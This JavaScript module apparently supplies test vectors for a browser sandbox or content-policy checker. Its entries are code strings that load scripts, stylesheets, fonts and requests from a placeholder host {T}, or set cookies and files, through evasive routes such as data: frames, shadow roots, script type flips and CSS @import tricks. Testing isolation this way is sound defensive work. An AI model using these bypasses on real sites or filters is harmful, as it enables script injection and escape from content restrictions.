import {inGroup} from '../vector.js';

const SCRIPT = `const s = make('script'); s.src = '{T}/x.js';`;
const SEND = `fetch('{T}/executed', {mode: 'no-cors'})`;
const IN = `const e = make('div'); e.style.cssText = 'width: 9px; height: 9px'; document.body.append(e);`;
const SHEET = `const y = make('style'); document.head.append(y);`;
const SHUT = `<script src="{T}/x.js"></scr' + 'ipt>`;

/** More of the same: what was found by reading what had been written against the first. */
export const EVASIONS_2 = [
  ...inGroup('realms', [
    {
      id: 'r-data-hash',
      what: 'data: frame, base64 with a fragment',
      run: `const f = make('iframe'); f.src = 'data:text/html;base64,' + btoa('${SHUT}') + '#x'; document.body.append(f);`,
    },
    {
      id: 'r-data-utf16',
      what: 'data: frame in UTF-16',
      run: `for (const pad of ['', '%20']) { const f = make('iframe'); f.src = 'data:text/html;charset=utf-16le,' + pad + [...'   ${SHUT}'].map((c) => '%' + c.charCodeAt(0).toString(16).padStart(2, '0') + '%00').join(''); document.body.append(f); }`,
    },
    {
      id: 'r-data-xsl',
      what: 'data: frame of type text/xsl',
      run: `const f = make('iframe'); f.src = 'data:text/xsl,' + encodeURIComponent('<html xmlns="http://www.w3.org/1999/xhtml"><script src="{T}/x.js"/></html>'); document.body.append(f);`,
    },
    {
      id: 'r-data-unknown',
      what: 'data: frame of no known type',
      run: `for (const t of ['application/x-unknown-content-type', 'unknown/unknown', '*/*', 'application/octet-stream']) { const f = make('iframe'); f.src = 'data:' + t + ',' + encodeURIComponent('<!doctype html><html>${SHUT}'); document.body.append(f); }`,
    },
    {
      id: 'r-data-multipart',
      what: 'data: frame of several parts',
      run: `const f = make('iframe'); f.src = 'data:multipart/x-mixed-replace;boundary=x,' + encodeURIComponent('--x\\r\\nContent-Type: text/html\\r\\n\\r\\n${SHUT}\\r\\n--x--'); document.body.append(f);`,
    },
    {
      id: 'r-sandbox-reload',
      what: 'srcdoc frame that gets its sandbox, and is loaded again',
      run: `const f = make('iframe'); f.srcdoc = '<script>${SEND.replaceAll("'", '"')}</scr' + 'ipt>'; await new Promise((d) => { f.onload = d; document.body.append(f); }); f.sandbox = 'allow-scripts'; f.contentWindow.location.reload();`,
    },
    {
      id: 'r-style-outerhtml',
      what: 'frame by outerHTML of a style element',
      run: `const y = make('style'); document.body.append(y); y.outerHTML = '<iframe src="&#47;/' + '{T}/f.html'.slice(8) + '"></iframe><video poster="&#47;/' + '{T}/i.svg'.slice(8) + '"></video>';`,
    },
    {
      id: 'r-blob-of-worker',
      what: 'worker from a blob that a worker made an address for',
      run: `const w = new Worker(blobUrl("postMessage(URL.createObjectURL(new Blob([\\"fetch('{T}/executed', {mode: 'no-cors'})\\"], {type: 'text/javascript'})))")); window.keptw = w; const u = await new Promise((d) => { w.onmessage = (e) => d(e.data); }); window.keptx = new Worker(u);`,
    },
    {
      id: 'r-open-name',
      what: 'frame by open(), with a name that is an object',
      run: `const f = make('iframe'); f.name = 'object'; document.body.append(f); open('{T}/f.html', {toString: () => 'object'});`,
    },
  ]),
  ...inGroup('scripts', [
    {
      id: 'd-shadow-detached',
      what: 'script in a shadow root that is inserted with its host',
      run: `const h = make('div'); ${SCRIPT} h.attachShadow({mode: 'open'}).append(s); document.body.append(h);`,
    },
    {
      id: 'd-shadow-detached-deep',
      what: 'script in an element of a shadow root that is inserted with its host',
      run: `const h = make('div'), p = make('p'); ${SCRIPT} h.attachShadow({mode: 'closed'}).append(p); p.append(s); document.body.append(h);`,
    },
    {
      id: 'd-shadow-clone',
      what: 'script in a shadow root that is cloned with its host',
      run: `const h = make('div'), p = make('p'); ${SCRIPT} p.append(s); h.attachShadow({mode: 'open', clonable: true}).append(p); document.body.append(h.cloneNode(true));`,
    },
    {
      id: 'd-ran-never',
      what: 'script of a type that only looks live, then of another source',
      run: `const s = make('script'); s.type = 'text/typescript'; s.src = '/blank.js'; document.head.append(s); s.remove(); s.type = ''; s.src = '{T}/x.js'; document.head.append(s);`,
    },
    {
      id: 'd-type-flip-text',
      what: 'inert type that becomes a live one, then more text',
      run: `const s = make('script'); s.type = 'text/x-inert'; s.src = '{T}/x.js'; document.head.append(s); s.type = ''; s.text = ' ';`,
    },
    {
      id: 'd-held-type-text',
      what: 'held script given a type and text',
      run: `const s = make('script'); document.head.append(s); s.src = '{T}/x.js'; s.type = ''; s.textContent = ' ';`,
    },
    {
      id: 'd-options-add',
      what: 'script in an option that a list’s options are given',
      run: `const t = make('select'), o = make('option'); document.body.append(t); ${SCRIPT} o.append(s); t.options.add(o);`,
    },
    {
      id: 'd-options-index',
      what: 'script in an option that stands where a list says',
      run: `const t = make('select'), o = make('option'); document.body.append(t); ${SCRIPT} o.append(s); t[0] = o;`,
    },
    {
      id: 'd-insertImage',
      what: 'execCommand insertImage',
      run: `const e = make('div'); document.body.append(e); e.contentEditable = 'true'; e.textContent = 'x'; e.focus(); getSelection().selectAllChildren(e); document.execCommand('insertImage', false, '{T}/i.svg');`,
    },
    {
      id: 'd-write-body',
      what: 'background of a body that is written',
      run: `document.write('<body background="{T}/i.svg">');`,
    },
  ]),
  ...inGroup('subresources', [
    {
      id: 'c-adjacent-text',
      what: '@import by insertAdjacentText',
      run: `${SHEET} y.insertAdjacentText('beforeend', '@import url({T}/x.css);');`,
    },
    {
      id: 'c-child-replaced',
      what: 'text in place of an element in a style element',
      run: `${SHEET} const b = make('b'); y.append(b); b.replaceWith('@import url({T}/x.css);');`,
    },
    {
      id: 'c-outer-text',
      what: 'outerText of an element in a style element',
      run: `${SHEET} const b = make('b'); y.append(b); b.outerText = '@import url({T}/x.css);';`,
    },
    {
      id: 'c-cdata',
      what: 'CDATA section in a style element',
      run: `${SHEET} const d = document.implementation.createDocument('', 'x'); y.append(d.createCDATASection('@import url({T}/x.css);'));`,
    },
    {
      id: 'c-svg-style-entity',
      what: '@import in a style element of SVG, written with references',
      run: `${IN} e.innerHTML = '<svg><style>@import "&#104;ttps:&#47;&#47;' + '{T}/x.css'.slice(8) + '";</style></svg>';`,
    },
    {
      id: 'c-no-slash',
      what: 'URL without a slash',
      run: `${IN} e.style.backgroundImage = 'url(http:{HOST})'; const i = make('div'); i.style.cssText = 'background: url(http:{HOST}); width: 9px; height: 9px'; document.body.append(i);`,
    },
    {
      id: 'c-escape-crlf',
      what: 'escape that ends in two characters for one line break',
      run: `${IN} e.id = 'c-escape-crlf'; const c = new CSSStyleSheet(); document.adoptedStyleSheets.push(c); c.insertRule('#c-escape-crlf { background: url("\\\\2f\\r\\n/' + '{T}/i.svg'.slice(8) + '") }');`,
    },
    {
      id: 'c-data-sheet',
      what: 'style sheet from a data: URL that imports',
      run: `const l = make('link'); l.rel = 'stylesheet'; l.href = 'data:text/css;base64,' + btoa('@import url({T}/x.css);'); document.head.append(l);`,
    },
    {
      id: 'c-data-import',
      what: '@import of a data: URL that imports',
      run: `${SHEET} y.textContent = '@import "data:text/css;base64,' + btoa('@import url({T}/x.css);') + '";';`,
    },
    {
      id: 'c-font-object',
      what: 'FontFace of an object that reads as a text',
      run: `await new FontFace('leak', {toString: () => 'url({T}/f.woff2)'}).load().catch(() => {});`,
    },
    {
      id: 'l-relList-idle',
      what: 'alternate link that becomes a style sheet, by relList',
      run: `const l = make('link'); l.rel = 'canonical'; l.href = '{T}/x.css'; document.head.append(l); l.relList.add('stylesheet');`,
    },
  ]),
  ...inGroup('network', [
    {
      id: 'n-cache-addAll',
      what: 'Cache.addAll',
      run: `const c = await caches.open('leak-n-cache-addAll'); await c.addAll(['{T}/executed']).catch(() => {});`,
    },
    {
      id: 'n-cache-addAll-request',
      what: 'Cache.addAll of a Request',
      run: `const c = await caches.open('leak-n-cache-addAll'); await c.addAll([new Request('{T}/executed', {mode: 'no-cors'})]).catch(() => {});`,
    },
    {
      id: 'n-worker-font',
      what: 'font in a worker',
      run: `window.keptf = new Worker(blobUrl("new FontFace('x', 'url({T}/f.woff2)').load().catch(() => {})"));`,
    },
    {
      id: 'n-webauthn-create',
      what: 'new key of another host',
      run: `navigator.credentials.create({publicKey: {rp: {id: '{HOST}', name: 'x'}, user: {id: new Uint8Array(9), name: 'x', displayName: 'x'}, challenge: new Uint8Array(32), pubKeyCredParams: [{type: 'public-key', alg: -7}]}}).catch(() => {});`,
      needs: `window.PublicKeyCredential`,
    },
  ]),
  ...inGroup('storage', [
    {
      id: 'w-cookieStore-space',
      what: 'cookieStore.set of a name with a space before it',
      writes: 'cookie',
      run: `await cookieStore.set(' {NAME}', '1');`,
      needs: `window.cookieStore`,
    },
    {
      id: 'w-cookie-nameless',
      what: 'cookie without a name',
      writes: 'cookie',
      run: `document.cookie = '={NAME}=1; path=/';`,
    },
    {
      id: 'w-opfs-move',
      what: 'file that is given another name',
      writes: 'file',
      run: `const d = await navigator.storage.getDirectory(); const f = await d.getFileHandle('fine', {create: true}); await f.move('{NAME}');`,
      needs: `navigator.storage?.getDirectory && window.FileSystemFileHandle && 'move' in FileSystemFileHandle.prototype`,
    },
  ]),
];
